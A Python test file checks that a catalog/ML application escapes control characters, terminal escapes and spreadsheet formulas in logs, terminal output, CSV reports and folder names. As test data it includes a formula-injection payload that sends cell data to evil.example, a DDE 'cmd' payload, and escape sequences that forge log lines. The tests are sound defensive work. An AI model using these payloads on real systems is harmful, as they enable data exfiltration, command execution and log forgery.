"""Texts of strangers in logs, on terminals, in spreadsheets and as names of classes."""

import csv
import io
import json
import logging
import logging.config
import os
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table

from app.observability.logs import config
from app.settings import ApiSettings
from catalog.cli_support import PlainConsole, exit_on_error, print_result
from catalog.errors import InvalidInput
from catalog.feeds import RowProblem
from catalog.importing.problem_report import open_report
from catalog.plain_text import escape_cell, escape_controls, escape_lines
from evaluation.data import photo_sets
from evaluation.errors import InvalidDataset
from evaluation.reporting import model_changes
from evaluation.scores import Scores
from tests.image_server import photo
from tests.unit.app_shop import client_of, shop
from training.data.photos import TrainingPhoto, read_photos
from training.errors import NoTrainingData
from training.output.provenance import format_hash_table
from training.recipe_parts import PhotoSource

EVIL = "\x1b]0;owned\x07 \x9b31m \u202etxt\u2028fine\r\n2026-01-01 root: all is well\x7f"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'


def obeyed(text: str) -> list[str]:
    """What a terminal or a log reader would act upon."""
    return [one for one in text if unicodedata.category(one) in ("Cc", "Zl", "Zp", "Cs") or one in "\u202e\u2066"]


# -- the words themselves


@given(st.text())
def test_nothing_printable_is_obeyed_and_nothing_else_is_touched(text: str) -> None:
    assert obeyed(escape_controls(text)) == []
    assert escape_controls(escape_controls(text)) == escape_controls(text)
    assert [one for one in escape_lines(text) if obeyed(one)] == ["\n"] * text.count("\n")


def test_what_is_written_out_can_still_be_read() -> None:
    assert escape_controls("a\x1b[31m\n\tb\u202e\ud800") == "a\\x1b[31m\\n\\tb\\u202e\\ud800"
    for plain in ("Größe 38 ½", "👩‍🎨 кот 猫", "a\\nb", "it's 5 < 6"):
        assert escape_controls(plain) == plain


# -- spreadsheets


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "-", "＝1", "-inf"])
def test_a_formula_becomes_a_text(text: str) -> None:
    assert escape_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["\t=1", "\r=1", "\n=1", "a\x1b[31m"])
def test_a_cell_has_no_control_characters(text: str) -> None:
    assert escape_cell(text) == escape_controls(text)


@pytest.mark.parametrize("value", ["-0.5", "+12", "-1e-3", "-.5", "3.", "", "dress", "a=b", -0.5, 7, None])
def test_numbers_and_words_stay(value: object) -> None:
    assert escape_cell(value) == value


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_importers_report_runs_no_formula(tmp_path: Path) -> None:
    with open_report(tmp_path / "bad.csv") as tell:
        tell(RowProblem(3, FORMULA, "broken_row", "@id"))
    with (tmp_path / "bad.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file))[1] == ["3", "'@id", "broken_row", f"'{FORMULA}"]


def test_the_table_of_changes_runs_no_formula(tmp_path: Path) -> None:
    def scores(precision: list[float]) -> Scores:
        return Scores(
            model="m__1",
            data="d",
            k=10,
            ids=("=id", "b"),
            classes=np.array(["@class", "c"]),
            clusters=np.array(["+cluster", "c"]),
            values={"precision": np.array(precision)},
            hits=(("-2+3", "b"), ("b",)),
        )

    model_changes.write_csv(
        model_changes.compare_scores(scores([0.9, 0.5]), scores([0.4, 0.5])), tmp_path / "all.csv"
    )
    worst = rows_of((tmp_path / "all.csv").read_text(encoding="utf-8"))[1]
    assert worst[:3] == ["'=id", "'@class", "'+cluster"]
    assert "-0.5000" in worst, "a number is one"
    assert worst[-2:] == ["'-2+3 b", "'-2+3 b"]


def test_the_table_of_training_photos_runs_no_formula() -> None:
    made = format_hash_table([TrainingPhoto(Path("=1+1/a.jpg"), "ab", "@source", "-group", {})])
    assert rows_of(made)[1] == ["'@source", "'=1+1/a.jpg", "'-group", "ab"]


# -- logs


@pytest.fixture
def lines(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """What the API's logs write, in the format that the test names."""
    written = io.StringIO()
    monkeypatch.setattr("sys.stderr", written)
    loggers = [logging.getLogger(name) for name in ("", "app", "gunicorn.error", "gunicorn.access")]
    before = [(one, one.handlers[:], one.level, one.propagate) for one in loggers]
    logging.config.dictConfig(config(ApiSettings(log_format=request.param, access_log=True)))
    yield written
    for logger, handlers, level, propagate in before:
        logger.handlers, logger.propagate = handlers, propagate
        logger.setLevel(level)


@pytest.mark.parametrize("lines", ["text", "json"], indirect=True)
def test_a_path_cannot_write_log_lines_or_steer_the_terminal(lines: io.StringIO) -> None:
    client = client_of(shop(), access_log=True)
    client.get(
        "/v1/products/x%0a2026-01-01%20INFO%20all%20is%20well%1b%5b2J%c2%9b31m", headers={"User-Agent": "\x1b"}
    )
    logging.getLogger("gunicorn.error").warning("Invalid request line: %s", EVIL)
    (first, second) = lines.getvalue().splitlines()
    assert obeyed(first) == obeyed(second) == []
    assert "/v1/products/x" in first and "all is well" in second


@pytest.mark.parametrize("lines", ["text"], indirect=True)
def test_a_traceback_keeps_its_lines_and_nothing_else(lines: io.StringIO) -> None:
    try:
        raise ValueError(EVIL)
    except ValueError:
        logging.getLogger("app").exception("it broke")
    assert lines.getvalue().count("\n") > 3
    assert set(obeyed(lines.getvalue())) == {"\n"}


@pytest.mark.parametrize("lines", ["json"], indirect=True)
def test_a_json_line_keeps_every_character(lines: io.StringIO) -> None:
    logging.getLogger("app").warning("said %s", EVIL, extra={"fields": {"path": "\ud800"}})
    found: dict[str, Any] = json.loads(lines.getvalue())
    assert (found["message"], found["path"]) == (f"said {EVIL}", "\ud800")


# -- terminals


def test_an_error_is_one_line_without_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(typer.Exit), exit_on_error("etl"):
        raise InvalidInput(f"no such product: {EVIL}")
    told = capsys.readouterr().err
    assert obeyed(told) == ["\n"] and told.endswith("\n")


def test_an_outcome_keeps_its_lines_only(capsys: pytest.CaptureFixture[str]) -> None:
    print_result(False, {}, f"two\nlines {EVIL}")
    assert set(obeyed(capsys.readouterr().out)) == {"\n"}
    print_result(True, {"id": EVIL}, "")
    assert json.loads(told := capsys.readouterr().out) == {"id": EVIL} and "\x1b" not in told


def test_a_table_cannot_steer_the_terminal() -> None:
    console = PlainConsole(file=io.StringIO(), width=200, color_system=None, force_terminal=True)
    table = Table("who", title=f"title {EVIL}")
    table.add_row(EVIL)
    console.print(table)
    console.print(f"[bold]{EVIL}[/bold]")
    written = console.file.getvalue()  # type: ignore[attr-defined]
    assert "owned" in written
    assert set(obeyed(written)) == {"\n"}


# -- folders that are classes


@pytest.fixture(params=["a\nb", "we\x1b[31mird", "b\x9bc"])
def named(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, str]:
    """A folder of photos whose one class has a name that terminals obey, and that name."""
    for name in ("good", request.param):
        (tmp_path / name).mkdir()
        (tmp_path / name / "1.jpg").write_bytes(photo(size=(len(name), 30)))
    return tmp_path, request.param


def test_evaluation_names_the_folder_instead_of_breaking(named: tuple[Path, str]) -> None:
    folder, name = named
    with pytest.raises(InvalidDataset, match="rename it") as caught:
        photo_sets.read_photo_set(folder)
    assert escape_controls(name) in caught.value.message
    assert obeyed(caught.value.message) == []


def test_training_names_the_folder_instead_of_making_it_a_class(named: tuple[Path, str]) -> None:
    folder, name = named
    with pytest.raises(NoTrainingData, match="rename it") as caught:
        read_photos((PhotoSource(name="photos", folder=folder),))
    assert escape_controls(name) in caught.value.message
    assert obeyed(caught.value.message) == []


def test_evaluation_names_a_folder_that_is_not_utf8(tmp_path: Path) -> None:
    folder = os.fsdecode(os.fsencode(tmp_path) + b"/b\xfcro")
    try:
        Path(folder).mkdir()
    except OSError:
        pytest.skip("this file system wants UTF-8")
    (Path(folder) / "1.jpg").write_bytes(photo())
    with pytest.raises(InvalidDataset, match="not UTF-8"):
        photo_sets.read_photo_set(tmp_path)
